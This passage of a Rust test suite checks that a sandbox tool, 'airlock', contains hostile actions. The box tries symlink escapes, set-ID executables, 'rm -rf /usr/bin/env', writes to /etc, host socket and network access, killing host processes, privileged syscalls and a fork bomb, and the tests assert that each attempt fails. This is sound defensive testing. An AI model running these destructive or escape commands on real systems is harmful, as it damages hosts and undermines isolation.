                r.stderr.contains("\"exit_code\": 0"),
                "the result document is not kept on stderr: {}",
                r.stderr
            );
        }
    }
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "precious\n",
        "the result was written through the symlink"
    );

    // Left for the next run (result and audit), and a directory symlink leading out.
    let plant = format!(
        "ln -s {v} audit.jsonl; mkdir -p out; ln -s {} outdir; echo planted=$?",
        outside.display()
    );
    let r = boxed(&ws, &[], &plant);
    assert_eq!(
        line(&r.stdout, "planted="),
        "planted=0",
        "positive control: {}{}",
        r.stdout,
        r.stderr
    );
    if test_backend_kind() == BackendKind::Microvm {
        host_plants_symlink(&ws.join("audit.jsonl"), &victim);
        host_plants_symlink(&ws.join("outdir"), &outside);
    }
    let r = airlock_env(&ws, &[], &["run", "--result", "result.json", "--", "true"]);
    assert_eq!(
        r.code, 125,
        "a planted result symlink was accepted: {}",
        r.stderr
    );
    assert!(r.stderr.contains("is a symlink"), "{}", r.stderr);
    let r = airlock_env(
        &ws,
        &[],
        &[
            "run",
            "--net",
            "proxy",
            "--audit",
            "audit.jsonl",
            "--",
            "true",
        ],
    );
    assert_ne!(
        r.code, 0,
        "a planted audit symlink was accepted: {}",
        r.stderr
    );
    assert!(r.stderr.contains("is a symlink"), "{}", r.stderr);
    // Also when this run's workspace is read-only: the symlink is from a run that could write.
    let r = airlock_env(
        &ws,
        &[],
        &[
            "run",
            "--profile",
            "read-only",
            "--result",
            "result.json",
            "--",
            "true",
        ],
    );
    assert_eq!(
        r.code, 125,
        "a planted result symlink was accepted in a read-only run: {}",
        r.stderr
    );
    assert!(r.stderr.contains("is a symlink"), "{}", r.stderr);
    let r = airlock_env(
        &ws,
        &[],
        &["run", "--result", "outdir/result.json", "--", "true"],
    );
    assert_eq!(
        r.code, 125,
        "a directory symlink out of the workspace was followed: {}",
        r.stderr
    );
    assert!(
        r.stderr.contains("leads out of the box's writable tree"),
        "{}",
        r.stderr
    );

    // Positive control: a result file the box did not touch is written.
    let r = airlock_env(
        &ws,
        &[],
        &["run", "--result", "out/result.json", "--", "true"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(std::fs::read_to_string(ws.join("out/result.json"))
        .unwrap()
        .contains("\"exit_code\": 0"));

    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
    let extra: Vec<_> = std::fs::read_dir(&outside)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(
        extra.len(),
        1,
        "files appeared outside the workspace: {extra:?}"
    );
    host.assert_untouched(&marker);
}

#[test]
fn attack_plant_a_set_id_executable_in_the_workspace() {
    // The box's files land on the host: as root's when root runs airlock (idmapped workspace),
    // as the user's otherwise. A set-user-ID or set-group-ID executable planted there would run
    // with that identity for anyone who starts it on the host. Every way to set the bits fails.
    let host = HostState::capture();
    let t = TempDir::new("setid");
    let ws = t.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let marker = unique("setid");
    let script = format!(
        "cp /usr/bin/id plain; chmod 0755 plain; echo plain=$?
         cp /usr/bin/id a; chmod u+s a; echo chmod_u=$?
         cp /usr/bin/id b; chmod g+s b; echo chmod_g=$?
         cp /usr/bin/id c; chmod 6755 c; echo chmod_num=$?
         install -m 4755 /usr/bin/id d; echo install=$?
         python3 -c 'import os; os.chmod(\"e\", 0o4755)' 2>/dev/null; touch e; python3 -c 'import os; os.chmod(\"e\", 0o4755)'; echo pychmod=$?
         python3 -c 'import os; os.close(os.open(\"f\", os.O_CREAT|os.O_WRONLY, 0o4755))'; echo pyopen=$?
         python3 -c 'import os, stat; os.mknod(\"g\", stat.S_IFREG|0o4755)'; echo pymknod=$?
         cp /usr/bin/id h; tar --mode=4755 -cf h.tar h && rm h && tar -xpf h.tar; echo tar=$?
         echo {marker}"
    );
    let r = boxed(&ws, &[], &script);
    assert_eq!(
        line(&r.stdout, "plain="),
        "plain=0",
        "positive control: {}{}",
        r.stdout,
        r.stderr
    );
    // In a microVM box the same seccomp filter refuses these in the guest; below it, QEMU's
    // mapped-xattr 9p would keep any bit the guest set in an xattr, never on the host file.
    for k in [
        "chmod_u=",
        "chmod_g=",
        "chmod_num=",
        "install=",
        "pychmod=",
        "pyopen=",
        "pymknod=",
    ] {
        assert_ne!(
            line(&r.stdout, k),
            format!("{k}0"),
            "{k} succeeded:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    // Whatever exists now on the host, nothing carries a set-ID bit (nor is a device node).
    use std::os::unix::fs::PermissionsExt;
    let mut checked = 0;
    for e in std::fs::read_dir(&ws).unwrap().flatten() {
        let mode = e.metadata().unwrap().permissions().mode();
        assert_eq!(
            mode & 0o6000,
            0,
            "{:?} has mode {mode:o} on the host",
            e.file_name()
        );
        let kind = e.file_type().unwrap();
        assert!(
            kind.is_file() || kind.is_dir(),
            "{:?} is {kind:?} on the host",
            e.file_name()
        );
        checked += 1;
    }
    assert!(
        checked >= 3,
        "the box made too few files for this test to mean anything: {}",
        r.stdout
    );
    host.assert_untouched(&marker);
}

#[test]
fn attack_rm_rf_read_only_paths() {
    let host = HostState::capture();
    let t = TempDir::new("rmrf");
    let ro = t.join("ro");
    std::fs::create_dir_all(ro.join("sub")).unwrap();
    std::fs::write(ro.join("a.txt"), "a\n").unwrap();
    std::fs::write(ro.join("sub/b.txt"), "b\n").unwrap();
    let ws = t.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(ws.join("keep.txt"), "keep\n").unwrap();
    let ro_before = snapshot(&ro);
    let env_before = std::fs::read("/usr/bin/env").unwrap();
    let marker = unique("rmrf");

    // Read-only system dirs and --read grants.
    let script = format!(
        "cat {ro}/a.txt; rm -rf /usr/bin/env; echo env=$?; rm -rf {ro}/*; echo ro=$?; ls {ro}; echo {marker} > /dev/null",
        ro = s(&ro)
    );
    let r = boxed(&ws, &["--read", &s(&ro)], &script);
    assert!(
        r.stdout.starts_with("a\n"),
        "positive control: the grant is readable: {}{}",
        r.stdout,
        r.stderr
    );
    if !must_fail(&["env="], &["env="]).is_empty() {
        assert_ne!(line(&r.stdout, "env="), "env=0", "{}", r.stderr);
    }
    assert_ne!(line(&r.stdout, "ro="), "ro=0", "{}", r.stderr);
    assert_eq!(
        std::fs::read("/usr/bin/env").unwrap(),
        env_before,
        "/usr/bin/env changed"
    );
    assert_eq!(snapshot(&ro), ro_before, "the read-only grant changed");

    // A read-only workspace.
    let ws_before = snapshot(&ws);
    let r = boxed(
        &ws,
        &["--profile", "read-only"],
        "cat keep.txt; rm -rf ./* ./.[!.]*; echo rm=$?; touch new; echo touch=$?",
    );
    assert!(
        r.stdout.starts_with("keep\n"),
        "positive control: the workspace is readable: {}{}",
        r.stdout,
        r.stderr
    );
    assert_ne!(line(&r.stdout, "rm="), "rm=0");
    assert_ne!(line(&r.stdout, "touch="), "touch=0");
    assert_eq!(snapshot(&ws), ws_before, "the read-only workspace changed");

    // Positive control: the same rm in a writable workspace does delete.
    let scratch = t.join("scratch");
    std::fs::create_dir_all(&scratch).unwrap();
    std::fs::write(scratch.join("x"), "x").unwrap();
    let r = boxed(&scratch, &[], "rm -rf ./x; echo rm=$?");
    assert_eq!(line(&r.stdout, "rm="), "rm=0", "{}", r.stderr);
    assert!(!scratch.join("x").exists());
    host.assert_untouched(&marker);
}

/// The host's `/etc` files a box sees: small ones copied into its root, larger ones bound
/// read-only from the host (so one page cache serves every box). Neither may be taken for
/// writing, renamed or removed. The attempt opens for append without writing a byte, so even a
/// box that failed would leave the host's file as it was.
#[test]
fn attack_write_into_the_root_beside_the_writable_views() {
    // On the `host` root, /dev is a directory of the root's tmpfs (not a tmpfs of its own) and
    // the scratch behind /tmp, home and /dev/shm lives in that tmpfs too, under
    // /.airlock/scratch: neither may be a way to write where the box may not.
    let host = HostState::capture();
    let t = TempDir::new("root-beside");
    let marker = unique("root-beside");
    let script = format!(
        "echo ok > /tmp/{marker}.tmp; echo tmp=$?
         echo x > /dev/{marker}; echo devfile=$?
         mkdir /dev/{marker}.d; echo devdir=$?
         echo x > /.airlock/scratch/tmp/{marker}; echo viatmp=$?
         echo x > /.airlock/scratch/{marker}; echo scratch=$?
         ls /.airlock/scratch/tmp 2>/dev/null | grep -c {marker}.tmp; echo listed=$?
         echo x > /{marker}; echo root=$?"
    );
    let r = boxed(&t.0, &[], &script);
    assert_eq!(
        line(&r.stdout, "tmp="),
        "tmp=0",
        "positive control: /tmp is writable: {}{}",
        r.stdout,
        r.stderr
    );
    // On a template root, the root and its /dev tmpfs are the box's own (writable, thrown away
    // with it): there only the paths into the scratch must fail (they do not exist there).
    for key in must_fail(
        &["devfile=", "devdir=", "viatmp=", "scratch=", "root="],
        &["devfile=", "devdir=", "root="],
    ) {
        let got = line(&r.stdout, key);
        assert!(
            !got.is_empty() && got != format!("{key}0"),
            "{key} the box wrote beside its views: {}{}",
            r.stdout,
            r.stderr
        );
    }
    assert_eq!(
        line(&r.stdout, "listed="),
        "listed=1",
        "the scratch is not seen through the root's path to it: {}",
        r.stdout
    );
    for p in [
        Path::new("/dev").join(&marker),
        Path::new("/dev").join(format!("{marker}.d")),
        Path::new("/tmp").join(format!("{marker}.tmp")),
        Path::new("/").join(&marker),
    ] {
        assert!(!p.exists(), "{} was written on the host", p.display());
    }
    host.assert_untouched(&marker);
}

#[test]
fn attack_take_a_write_handle_on_the_etc_files_a_box_sees() {
    let host = HostState::capture();
    let t = TempDir::new("etc-write");
    let pick = |names: &[&'static str], large: bool| -> &'static str {
        names
            .iter()
            .copied()
            .find(|n| {
                std::fs::symlink_metadata(n)
                    .is_ok_and(|m| m.is_file() && (m.len() > 8 << 10) == large)
            })
            .unwrap_or_else(|| panic!("none of {names:?} is a host file of that size here"))
    };
    // Larger than the copy limit (bound) and smaller (copied).
    let bound = pick(
        &["/etc/mime.types", "/etc/ld.so.cache", "/etc/services"],
        true,
    );
    let copied = pick(
        &["/etc/timezone", "/etc/debian_version", "/etc/host.conf"],
        false,
    );
    let before: Vec<Vec<u8>> = [bound, copied]
        .iter()
        .map(|p| std::fs::read(p).unwrap())
        .collect();
    let marker = unique("etc-write");
    let script = format!(
        r#"import errno, os
for i, p in enumerate(["{bound}", "{copied}"]):
    print(f"read{{i}}=", len(open(p, "rb").read()))
    try:
        os.close(os.open(p, os.O_WRONLY | os.O_APPEND))
        print(f"open{{i}}=ok")
    except OSError as e:
        print(f"open{{i}}=", errno.errorcode[e.errno])
    for what, act in (("mv", lambda: os.rename(p, p + ".moved")), ("rm", lambda: os.unlink(p))):
        try:
            act()
            print(f"{{what}}{{i}}=ok")
        except OSError as e:
            print(f"{{what}}{{i}}=", errno.errorcode[e.errno])
print("{marker}")
"#
    );
    let r = boxed(&t.0, &[], &format!("python3 -c '{script}'"));
    // On a template root, /etc is the template's, in the box's own writable layer: there only
    // the host side is checked.
    let on_template = common::test_template().is_some();
    for (i, content) in before.iter().enumerate() {
        if !on_template {
            assert_eq!(
                line(&r.stdout, &format!("read{i}=")),
                format!("read{i}= {}", content.len()),
                "positive control: the box reads the host's file whole: {}{}",
                r.stdout,
                r.stderr
            );
        }
        for act in must_fail(&["open", "mv", "rm"], &["open", "mv", "rm"]) {
            let key = format!("{act}{i}=");
            let got = line(&r.stdout, &key);
            assert!(
                got.starts_with(&key) && !got.ends_with("ok"),
                "{key} succeeded in the box: {}{}",
                r.stdout,
                r.stderr
            );
        }
    }
    for (p, content) in [bound, copied].iter().zip(&before) {
        assert_eq!(
            &std::fs::read(p).unwrap(),
            content,
            "{p} changed on the host"
        );
    }
    assert!(!Path::new(&format!("{bound}.moved")).exists());
    host.assert_untouched(&marker);
}

// ----- network -----

#[test]
fn attack_connect_to_host_listeners() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};
    let host = HostState::capture();
    let t = TempDir::new("net");
    let marker = unique("net");

    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let port = tcp.local_addr().unwrap().port();
    let sock_path = t.join("docker.sock");
    let unix = UnixListener::bind(&sock_path).unwrap();
    unix.set_nonblocking(true).unwrap();
    let abstract_name = format!("airlock-test-{}-{port}", std::process::id());
    let abs =
        UnixListener::bind_addr(&SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap())
            .unwrap();
    abs.set_nonblocking(true).unwrap();

    // Positive control for the harness: the host listeners accept connections from the host.
    drop(std::net::TcpStream::connect(("127.0.0.1", port)).unwrap());
    assert!(tcp.accept().is_ok());
    drop(std::os::unix::net::UnixStream::connect(&sock_path).unwrap());
    assert!(unix.accept().is_ok());

    let py = format!(
        r#"
import os, socket
def attempt(name, fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(addr)
        print(name, "CONNECTED")
    except OSError as e:
        print(name, "FAILED", e.errno)
attempt("tcp", socket.AF_INET, ("127.0.0.1", {port}))
attempt("unix", socket.AF_UNIX, "{path}")
attempt("abstract", socket.AF_UNIX, "\0{abstract_name}")
print("visible", os.path.exists("{path}"))
# Positive control: the box's own loopback and abstract sockets work.
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
attempt("inbox-tcp", socket.AF_INET, l.getsockname())
a = socket.socket(socket.AF_UNIX); a.bind("\0{marker}"); a.listen(1)
attempt("inbox-abstract", socket.AF_UNIX, "\0{marker}")
"#,
        path = s(&sock_path)
    );
    let ws = t.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let r = airlock_env(&ws, &[], &["run", "--", "python3", "-c", &py]);
    assert!(
        line(&r.stdout, "inbox-tcp ").ends_with("CONNECTED"),
        "positive control:\n{}{}",
        r.stdout,
        r.stderr
    );
    assert!(
        line(&r.stdout, "inbox-abstract ").ends_with("CONNECTED"),
        "positive control:\n{}{}",
        r.stdout,
        r.stderr
    );
    for k in ["tcp ", "unix ", "abstract "] {
        assert!(
            line(&r.stdout, k).contains("FAILED"),
            "{k}connected:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    assert_eq!(
        line(&r.stdout, "visible "),
        "visible False",
        "the host's unix socket is visible in the box"
    );

    for (name, res) in [
        ("tcp", tcp.accept().map(|_| ())),
        ("unix", unix.accept().map(|_| ())),
        ("abstract", abs.accept().map(|_| ())),
    ] {
        let e = res.expect_err(&format!(
            "the {name} listener saw a connection from the box"
        ));
        assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock, "{name}: {e}");
    }
    host.assert_untouched(&marker);
}

#[test]
fn attack_reach_the_outside_network() {
    let host = HostState::capture();
    let t = TempDir::new("route");
    let marker = unique("route");
    let script = format!(
        r#"ip route 2>&1; echo "routes=$(ip route 2>/dev/null | wc -l)"; echo "proc=$(tail -n +2 /proc/net/route | wc -l)"
ip -o link show up | grep -c LOOPBACK | sed 's/^/loopback=/'
python3 -c '
import socket, time
t = time.time()
try:
    socket.create_connection(("10.255.255.1", 80), timeout=1)
    print("conn CONNECTED")
except OSError as e:
    print("conn FAILED", e.errno, round(time.time() - t, 3))
' {marker}"#
    );
    let r = boxed(t.path(), &[], &script);
    assert_eq!(
        line(&r.stdout, "loopback="),
        "loopback=1",
        "positive control: the box's loopback is up:\n{}{}",
        r.stdout,
        r.stderr
    );
    match test_backend_kind() {
        // gVisor's netstack lists its loopback routes (127.0.0.0/8 and ::1 on lo), which Linux
        // keeps in its local table: every route there is the loopback's, none leaves the box.
        BackendKind::Gvisor => {
            let routes: Vec<&str> = r
                .stdout
                .lines()
                .take_while(|l| !l.starts_with("routes="))
                .collect();
            assert!(
                !routes.is_empty() && routes.iter().all(|l| l.contains(" dev lo ")),
                "the box has a route off its loopback:\n{}",
                r.stdout
            );
        }
        _ => assert_eq!(
            line(&r.stdout, "routes="),
            "routes=0",
            "the box has routes:\n{}",
            r.stdout
        ),
    }
    assert_eq!(
        line(&r.stdout, "proc="),
        "proc=0",
        "/proc/net/route lists routes:\n{}",
        r.stdout
    );
    let conn: Vec<&str> = line(&r.stdout, "conn ").split_whitespace().collect();
    let unreachable = match test_backend_kind() {
        // gVisor's netstack answers a destination it has no route to with EHOSTUNREACH.
        BackendKind::Gvisor => "113",
        _ => "101",
    };
    assert_eq!(
        conn[1..3],
        ["FAILED", unreachable],
        "expected ENETUNREACH (EHOSTUNREACH under gVisor):\n{}",
        r.stdout
    );
    // An attempt would wait out the 1 s timeout. Under TCG (a microVM here) the refusal itself
    // is emulated and takes longer on a loaded host, so the bound is just under the timeout.
    let at_once = match test_backend_kind() {
        BackendKind::Microvm => 0.95,
        _ => 0.5,
    };
    assert!(
        conn[3].parse::<f64>().unwrap() < at_once,
        "the connection was attempted rather than refused at once: {}",
        conn[3]
    );
    host.assert_untouched(&marker);
}

#[test]
fn attack_resolve_names() {
    let host = HostState::capture();
    let t = TempDir::new("dns");
    let marker = unique("dns");
    let script = format!(
        r#"test -e /etc/resolv.conf; echo resolv=$?
getent hosts localhost >/dev/null; echo localhost=$?
getent hosts example.invalid; echo getent=$?
python3 -c '
import socket, time
t = time.time()
try:
    socket.getaddrinfo("example.invalid", 80)
    print("gai RESOLVED")
except OSError as e:
    print("gai FAILED", round(time.time() - t, 3))
' {marker}"#
    );
    let r = boxed(t.path(), &[], &script);
    assert_eq!(
        line(&r.stdout, "localhost="),
        "localhost=0",
        "positive control: /etc/hosts lookups work:\n{}{}",
        r.stdout,
        r.stderr
    );
    assert_eq!(
        line(&r.stdout, "resolv="),
        "resolv=1",
        "the box has a resolver config"
    );
    assert_ne!(
        line(&r.stdout, "getent="),
        "getent=0",
        "example.invalid resolved:\n{}",
        r.stdout
    );
    let gai: Vec<&str> = line(&r.stdout, "gai ").split_whitespace().collect();
    assert_eq!(gai[1], "FAILED", "{}", r.stdout);
    assert!(
        gai[2].parse::<f64>().unwrap() < 2.0,
        "getaddrinfo took {}s: it tried a server",
        gai[2]
    );
    host.assert_untouched(&marker);
}

// ----- processes -----

/// A host process a test started; killed by its pid and reaped when dropped (also on failure).
struct Victim(std::process::Child);

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn attack_see_and_kill_host_process() {
    let host = HostState::capture();
    let t = TempDir::new("kill");
    // A unique duration is the marker: it shows in the process's command line. The script only
    // holds it in two halves, so the box's own command lines never contain it.
    let (m1, m2) = ("1000.", format!("{}01s", std::process::id()));
    let marker = format!("{m1}{m2}");
    let mut victim = Victim(
        Command::new("sleep")
            .arg(&marker)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start sleep"),
    );
    let vpid = victim.0.id();
    // Positive control: the host sees its sleep (once it has exec'd).
    let deadline = Instant::now() + Duration::from_secs(3);
    while pids_with_marker(&marker).is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(
        pids_with_marker(&marker),
        vec![vpid as i32],
        "positive control: the host sees its sleep"
    );

    let script = format!(
        "sleep 100 & own=$!; kill -9 $own; echo ownkill=$?
         m1='{m1}'; m2='{m2}'; all=$(ps ax -o pid=,args=)
         case \"$all\" in *\"$m1$m2\"*) echo ps=1;; *) echo ps=0;; esac
         ls /proc | grep -cx '{vpid}' | sed 's/^/proc=/'
         echo \"procs=$(ls /proc | grep -c '^[0-9]')\"
         kill -9 {vpid}; echo kill=$?
         kill -0 {vpid}; echo probe=$?"
    );
    let r = boxed(t.path(), &[], &script);
    assert_eq!(
        line(&r.stdout, "ownkill="),
        "ownkill=0",
        "positive control: the box can kill its own process:\n{}{}",
        r.stdout,
        r.stderr
    );
    assert_eq!(
        line(&r.stdout, "ps="),
        "ps=0",
        "the host process is visible:\n{}",
        r.stdout
    );
    assert_eq!(
        line(&r.stdout, "proc="),
        "proc=0",
        "the host pid is in the box's /proc:\n{}",
        r.stdout
    );
    let procs: u32 = line(&r.stdout, "procs=")["procs=".len()..].parse().unwrap();
    assert!(
        procs < 10,
        "the box sees {procs} processes: more than its own"
    );
    assert_ne!(line(&r.stdout, "kill="), "kill=0", "kill -9 succeeded");
    assert_ne!(line(&r.stdout, "probe="), "probe=0", "kill -0 succeeded");

    assert!(
        victim
            .0
            .try_wait()
            .expect("check the host process")
            .is_none(),
        "the host process died"
    );
    drop(victim);
    host.assert_untouched(&marker);
}

#[test]
fn attack_refused_syscalls() {
    let host = HostState::capture();
    let t = TempDir::new("syscalls");
    let marker = unique("syscalls");
    let py = format!(
        r#"
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def report(name, r):
    e = ctypes.get_errno()
    print(name, r, errno.errorcode.get(e, e) if r == -1 else "OK")
def call(name, nr, *args):
    ctypes.set_errno(0)
    report(name, libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args]))
call("getpid", 39)
call("ptrace", 101, 0, 0, 0, 0)
call("unshare", 272, 0x10000000)
call("mount", 165, 0, 0, 0, 0, 0)
call("bpf", 321, 0, 0, 0)
call("keyctl", 250, 0, 0, 0, 0, 0)
call("perf_event_open", 298, 0, 0, -1, -1, 0)
call("io_uring_setup", 425, 1, 0)
call("userfaultfd", 323, 0)
call("init_module", 175, 0, 0, 0)
call("kexec_load", 246, 0, 0, 0, 0)
call("socket_packet", 41, 17, 3, 0)
call("socket_vsock", 41, 40, 1, 0)
call("socket_unix", 41, 1, 1, 0)
m, s = os.openpty()
c = ctypes.c_char(b"x")
ctypes.set_errno(0)
report("tiocsti", libc.ioctl(m, 0x5412, ctypes.byref(c)))
# {marker}
"#
    );
    let r = airlock_env(t.path(), &[], &["run", "--", "python3", "-c", &py]);
    // Positive controls: allowed syscalls go through the same path and succeed.
    for k in ["getpid ", "socket_unix "] {
        assert!(
            line(&r.stdout, k).ends_with("OK"),
            "positive control {k}:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    for name in [
        "ptrace",
        "unshare",
        "mount",
        "bpf",
        "keyctl",
        "perf_event_open",
        "io_uring_setup",
        "userfaultfd",
        "init_module",
        "kexec_load",
        "tiocsti",
    ] {
        assert_eq!(
            line(&r.stdout, &format!("{name} ")),
            format!("{name} -1 EPERM"),
            "\n{}",
            r.stdout
        );
    }
    for name in ["socket_packet", "socket_vsock"] {
        assert_eq!(
            line(&r.stdout, &format!("{name} ")),
            format!("{name} -1 EAFNOSUPPORT"),
            "\n{}",
            r.stdout
        );
    }

    let r = boxed(
        t.path(),
        &[],
        "true; echo true=$?; unshare -U true; echo unshare=$?; unshare -r true; echo unshare_r=$?",
    );
    assert_eq!(line(&r.stdout, "true="), "true=0");
    assert_ne!(
        line(&r.stdout, "unshare="),
        "unshare=0",
        "unshare -U worked in the box"
    );
    assert_ne!(
        line(&r.stdout, "unshare_r="),
        "unshare_r=0",
        "unshare -r worked in the box"
    );
    host.assert_untouched(&marker);
}

#[test]
fn attack_capabilities_are_gone() {
    let host = HostState::capture();
    let t = TempDir::new("caps");
    let marker = unique("caps");
    let r = boxed(t.path(), &[], &format!("grep -E '^(Cap|NoNewPrivs|Seccomp)' /proc/self/status; echo uidmap $(cat /proc/self/uid_map); echo id=$(id -u); python3 -c 'import ctypes; print(\"nnp=%d\" % ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))' # {marker}"));
    let field = |k: &str| -> String {
        line(&r.stdout, &format!("{k}:"))
            .split_whitespace()
            .nth(1)
            .unwrap_or_default()
            .to_string()
    };
    let gvisor = test_backend_kind() == BackendKind::Gvisor;
    let sets: &[&str] = match gvisor {
        // The Sentry's /proc/self/status has no CapAmb (nor NoNewPrivs) line. Ambient
        // capabilities are always a subset of the permitted and inheritable sets, both checked
        // empty here, so the ambient set is empty too; no_new_privs is read with prctl below.
        true => &["CapInh", "CapPrm", "CapEff", "CapBnd"],
        false => &["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"],
    };
    for k in sets {
        assert_eq!(
            field(k),
            "0000000000000000",
            "{k} is not empty:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    if !gvisor {
        assert_eq!(field("NoNewPrivs"), "1");
    }
    if gvisor {
        assert_eq!(line(&r.stdout, "nnp="), "nnp=1", "no_new_privs is not set");
    }
    assert_eq!(field("Seccomp"), "2");
    assert_eq!(line(&r.stdout, "id="), "id=1000");
    let map: Vec<&str> = line(&r.stdout, "uidmap ")
        .split_whitespace()
        .skip(1)
        .collect();
    assert_eq!(map.len(), 3, "exactly one uid mapping: {map:?}");
    match test_backend_kind() {
        // The box's uids are the Sentry's own (its uid_map is the identity): no host uid is
        // the box's. What the host kernel sees is the Sentry, checked here instead: it runs as
        // nobody in a user namespace that maps that one uid, under its own seccomp filter.
        BackendKind::Gvisor => {
            assert_eq!(map, ["0", "0", "4294967295"], "the Sentry's own uids");
            let sentry = sentry_of_a_running_box(t.path());
            assert_eq!(
                line(&sentry.status, "Uid:").split_whitespace().nth(1),
                Some("65534"),
                "the Sentry does not run as nobody:\n{}",
                sentry.status
            );
            let host_map: Vec<&str> = sentry.uid_map.split_whitespace().collect();
            assert_eq!(
                host_map,
                ["65534", "65534", "1"],
                "the Sentry's user namespace"
            );
        }
        // The guest kernel's ids are its own (the box runs in its initial namespace, whose map
        // is the identity and names no host uid); the host side of the box's uid is QEMU's jail,
        // which maps its uid 1000 alone to the caller (crates/airlock-microvm/tests/jail.rs).
        BackendKind::Microvm => assert_eq!(
            map,
            ["0", "0", "4294967295"],
            "the guest's own initial user namespace"
        ),
        _ => assert_eq!(
            (map[0], map[2]),
            ("1000", "1"),
            "only uid 1000 is mapped, to one host uid: {map:?}"
        ),
    }
    if common::is_root() {
        // Started by root, the box still never runs as host uid 0: its user is an unused uid, and
        // the workspace is idmapped so the caller's files stay the caller's.
        if !gvisor && test_backend_kind() != BackendKind::Microvm {
            assert_ne!(
                map[1], "0",
                "a root-started box runs as host root's uid: {map:?}"
            );
        }
        let probe = TempDir::new("caps-own");
        let r = boxed(probe.path(), &[], "echo x > mine.txt");
        assert_eq!(r.code, 0, "{}", r.stderr);
        use std::os::unix::fs::MetadataExt;
        let meta = std::fs::metadata(probe.join("mine.txt")).expect("file written by the box");
        assert_eq!(
            (meta.uid(), meta.gid()),
            (0, 0),
            "the box's file belongs to the caller (root)"
        );
    }

    // Positive control: the host side of this test does have capabilities (we run as root).
    if common::is_root() {
        let own = std::fs::read_to_string("/proc/self/status").unwrap();
        assert_ne!(
            line(&own, "CapEff:").split_whitespace().nth(1),
            Some("0000000000000000")
        );
    }
    host.assert_untouched(&marker);
}

/// The host's view of the Sentry holding a gVisor box: its /proc status and uid_map, read while
/// a box started for it in `cwd` sleeps.
struct Sentry {
    status: String,
    uid_map: String,
}

fn sentry_of_a_running_box(cwd: &Path) -> Sentry {
    let mut child = Command::new(airlock_bin())
        .args(common::test_run_args(&["run", "--", "sleep", "5"]))
        .current_dir(cwd)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start airlock");
    let deadline = Instant::now() + Duration::from_secs(4);
    let found = loop {
        let sentry = common::descendants(&[child.id() as i32])
            .into_iter()
            .find(|pid| {
                std::fs::read(format!("/proc/{pid}/cmdline"))
                    .is_ok_and(|c| c.starts_with(b"runsc-sandbox"))
            });
        if let Some(pid) = sentry {
            let read = |f: &str| std::fs::read_to_string(format!("/proc/{pid}/{f}"));
            // Read once the Sentry has installed its own seccomp filter (it starts without).
            if let (Ok(status), Ok(uid_map)) = (read("status"), read("uid_map")) {
                if status
                    .lines()
                    .any(|l| l.split_whitespace().eq(["Seccomp:", "2"]))
                {
                    break Some(Sentry { status, uid_map });
                }
            }
        }
        if Instant::now() > deadline {
            break None;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let _ = child.wait();
    found.expect("no runsc-sandbox process under its own seccomp filter (Seccomp: 2) below airlock while its box slept")
}

// ----- limits -----

#[test]
fn attack_fork_bomb() {
    let host = HostState::capture();
    let t = TempDir::new("forkbomb");
    let marker = format!("30.{}03s", std::process::id());
    let started = Instant::now();
    let (r, res) = boxed_json(
        t.path(),
        &["--pids", "64", "--timeout", "20s"],
        &format!("for i in $(seq 500); do sleep {marker} & done; wait"),
    );
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "the bomb ran until the timeout"
    );
    match test_backend_kind() {
        // The Sentry counts the box's tasks itself (RLIMIT_NPROC of the box's one user): a fork
        // past 64 fails with EAGAIN inside the box, the shell gives up, and the box lives on.
        // No host counter sees those refusals, so no limit is reported as hit; the host cgroup
        // around runsc only bounds what the box's tasks cost the host.
        BackendKind::Gvisor => {
            assert!(
                r.stderr.contains("Cannot fork"),
                "the bomb's forks were not refused inside the box: {}",
                r.stderr
            );
            assert_eq!(
                res["exit_code"], 2,
                "the shell's own failure, not the box's end: {res}"
            );
        }
        // The guest's pids cgroup holds the bomb (fork fails inside); the host is not told which
        // limit the guest enforced (the seam's usage has no limit events), so the report names
        // none: what is asserted is the containment.
        BackendKind::Microvm => assert!(
            r.stderr.contains("Cannot fork") || r.stderr.contains("Resource temporarily"),
            "the bomb was not refused forks: {}",
            r.stderr
        ),
        _ => assert!(
            limits_hit(&res).contains(&"pids".to_string()),
            "limits_hit: {:?}\n{}",
            res["limits_hit"],
            r.stderr
        ),
    }
    assert!(!limits_hit(&res).contains(&"timeout".to_string()));
    // Positive control: the same loop, smaller, runs fine under the same cap.
    let (_, res) = boxed_json(
        t.path(),
        &["--pids", "64", "--timeout", "20s"],
        "for i in $(seq 5); do true & done; wait",
    );
    assert_eq!(res["exit_code"], 0);
    assert!(limits_hit(&res).is_empty(), "{:?}", res["limits_hit"]);
    host.assert_untouched(&marker);
}

#[test]
fn attack_memory_bomb() {
    let host = HostState::capture();
    let t = TempDir::new("membomb");
    let marker = unique("membomb");
    let py = |mib: u64| {
